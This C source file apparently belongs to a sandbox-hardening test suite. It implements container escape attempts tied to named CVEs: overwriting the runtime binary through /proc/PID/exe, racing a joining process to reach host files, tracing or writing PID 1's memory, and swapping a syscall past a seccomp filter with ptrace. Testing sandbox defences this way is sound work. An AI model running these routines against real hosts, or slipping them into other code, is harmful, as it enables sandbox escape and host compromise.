/* Attacks by way of other processes: what they execute, have open, and how they are traced. */
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Looks at each process but this one, until `look` says that it found what it wants. */
static int each_process(int (*look)(int process, pid_t pid, const char *what), const char *what) {
    DIR *all = opendir("/proc");
    int found = 0;
    for (struct dirent *entry; all && !found && (entry = readdir(all));) {
        pid_t pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        int process = openat(dirfd(all), entry->d_name, O_PATH | O_DIRECTORY);
        if (process < 0) continue;
        found = look(process, pid, what);
        close(process);
    }
    if (all) closedir(all);
    return found;
}

/* An executable of the sandbox's own, on the host's /run, is held until it is not executed any more, and written to. */
static int seen, refused;
static int write_executable(int process, pid_t pid, const char *device) {
    (void)pid;
    static int held[64], count;
    struct stat is;
    int file = openat(process, "exe", O_PATH);
    if (file < 0) { refused = errno; return 0; }
    if (fstat(file, &is) == 0 && is.st_dev == strtoul(device, NULL, 10) && count < 64) held[count++] = file, seen++;
    else close(file);
    for (int i = 0; i < count; i++) {
        char path[32];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int out = open(path, O_WRONLY);
        if (out < 0) { refused = errno; continue; }
        return write(out, "theirs", 6) == 6;
    }
    return 0;
}

/* The sandbox's own program overwritten by /proc/PID/exe: CVE-2019-5736, CVE-2019-12499. Arguments: the number of the
 * device that it lies on, how often to look. */
ATTACK("exe-overwrite", exe_overwrite);
static int exe_overwrite(int argc, char **argv) {
    if (argc < 3) return 3;
    for (long round = atol(argv[2]); round > 0; round--)
        if (each_process(write_executable, argv[1])) return 0;
    char what[64];
    snprintf(what, sizeof what, "%d executables of the sandbox's seen, the last one", seen);
    errno = refused;
    return stopped(what);
}

/* A way out by a process that is on its way in: its directories, what it has open, itself. */
static int leads_out(int process, pid_t pid, const char *file) {
    static const char *const links[] = {"root", "cwd"};
    char path[512];
    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%s%s", links[i], file);
        if (faccessat(process, path, R_OK, 0) == 0) return 1;
        refused = errno;
    }
    int descriptors = openat(process, "fd", O_RDONLY | O_DIRECTORY);
    DIR *all = descriptors < 0 ? NULL : fdopendir(descriptors);
    int found = 0;
    for (struct dirent *entry; all && !found && (entry = readdir(all));) {
        snprintf(path, sizeof path, "%s%s", entry->d_name, file);
        found = entry->d_name[0] != '.' && faccessat(dirfd(all), path, R_OK, 0) == 0;
    }
    if (all) closedir(all);
    struct stat is, ours;
    /* A process that executes no file of ours, and lets itself be traced. */
    if (!found && fstatat(process, "exe", &is, 0) == 0 && stat("/usr/bin", &ours) == 0 && is.st_dev != ours.st_dev
        && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) found = 1;
    return found;
}

/* CVE-2016-9962. Arguments: a file of the host's, a file to write when it is reached. */
ATTACK("join-window", join_window);
static int join_window(int argc, char **argv) {
    if (argc < 3) return 3;
    while (!each_process(leads_out, argv[1])) {}
    return close(open(argv[2], O_WRONLY | O_CREAT, 0644)) == 0 ? 0 : broken(argv[2]);
}

/* The first process: traced, or its memory written. */
ATTACK("first-process", first_process);
static int first_process(int argc, char **argv) {
    (void)argc, (void)argv;
    if (open("/proc/1/mem", O_RDWR) >= 0) return 0;
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) == 0) return 0;
    return stopped("ptrace(PTRACE_SEIZE, 1)");
}

/* A system call that is exchanged for another by a tracer, after the filter has seen the first: CVE-2017-5206. */
ATTACK("traced-call", traced_call);
static int traced_call(int argc, char **argv) {
    (void)argc, (void)argv;
    pid_t child = fork();
    if (child < 0) return broken("fork");
    if (child == 0) {
        if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) _exit(2);
        raise(SIGSTOP);
        _exit(syscall(SYS_getppid, CLONE_NEWUSER) == 0 ? 0 : 1);
    }
    int status;
    if (waitpid(child, &status, 0) != child) return broken("waitpid");
    if (WIFEXITED(status)) { errno = EPERM; return stopped("ptrace(PTRACE_TRACEME)"); }
    while (ptrace(PTRACE_SYSCALL, child, 0, 0) == 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
        struct user_regs_struct of;
        if (ptrace(PTRACE_GETREGS, child, 0, &of) != 0) return stopped("ptrace(PTRACE_GETREGS)");
        if (of.orig_rax != SYS_getppid) continue;
        of.orig_rax = SYS_unshare;
        of.rdi = CLONE_NEWUSER;
        if (ptrace(PTRACE_SETREGS, child, 0, &of) != 0) return stopped("ptrace(PTRACE_SETREGS)");
    }
    if (!WIFEXITED(status)) return broken("the traced process");
    if (WEXITSTATUS(status) == 0) return 0;
    errno = EPERM;
    return stopped("unshare, by a traced getppid");
}
